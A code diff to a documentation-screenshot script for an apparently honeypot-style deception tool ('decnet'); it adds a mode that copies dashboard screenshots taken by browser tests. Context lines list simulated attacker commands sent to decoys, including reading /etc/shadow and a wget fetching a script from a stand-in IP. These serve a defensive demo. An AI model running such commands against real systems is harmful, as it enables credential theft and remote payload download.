@@ -2,8 +2,10 @@
 """Takes the pictures of the pages: SVG of terminals in which a real fleet runs and is attacked over loopback.
 
     unshare --map-root-user --net sh -c 'ip link set lo up && python docs/capture.py'    (as root without the option)
+    python docs/capture.py --dashboard
 
-The network of its own is needed, because the deckies have their default addresses.
+The network of its own is needed, because the deckies have their default addresses. The second takes those of the
+dashboard, where Chromium is: they are what its tests look at, with a fleet of their own. `nox -s pictures` does both.
 """
 
 from __future__ import annotations
@@ -13,6 +15,7 @@ import fcntl
 import os
 import pty
 import re
+import shutil
 import struct
 import subprocess
 import sys
@@ -35,6 +38,8 @@ DECNET = [sys.executable, "-m", "decnet"]
 COMMANDS = ("uname -a", "cat /etc/shadow", "wget http://198.51.100.23/x.sh -O /tmp/x", "exit")
 PAGES = {"summary": ["summary"], "attacker": ["attacker", "127.9.8.7"]}
 """Pictures of commands."""
+DASHBOARD = {"dashboard-deckies": "deckies", "dashboard-workers": "workers"}
+"""Pictures of the dashboard, and what its tests call them."""
 
 _FONT = re.compile(r"\s*@font-face \{.*?\}", re.DOTALL)
 _SEQUENCE = re.compile(r"\x1b\[(\?[0-9;]*[a-z]|[0-9;]*[A-HJKf])|\x1b[()][A-Z0-9]")
@@ -96,6 +101,16 @@ def main() -> None:
             draw(name, f"decnet {' '.join(command)}", done.stdout)
 
 
+def take_dashboard() -> None:
+    """Have the tests of the fleet's pages take theirs, and keep those that the pages show."""
+    tests = ["-m", "pytest", "-q", "-m", "browser", "--timeout", "900", "tests/decnet_web/browser", "-k", "fleet"]
+    with tempfile.TemporaryDirectory() as folder:
+        subprocess.run([sys.executable, *tests], check=True, env={**os.environ, "DECNET_SCREENSHOTS": folder})
+        for name, shown in DASHBOARD.items():
+            shutil.copyfile(Path(folder) / f"{shown}.png", PICTURES / f"{name}.png")
+            print(PICTURES / f"{name}.png")
+
+
 @contextmanager
 def running(state: Path) -> Iterator[Terminal]:
     terminal, deadline = Terminal(state), time.monotonic() + 120
@@ -145,4 +160,4 @@ def draw(name: str, title: str, text: str) -> None:
 
 
 if __name__ == "__main__":
-    main()
+    take_dashboard() if sys.argv[1:] == ["--dashboard"] else main()
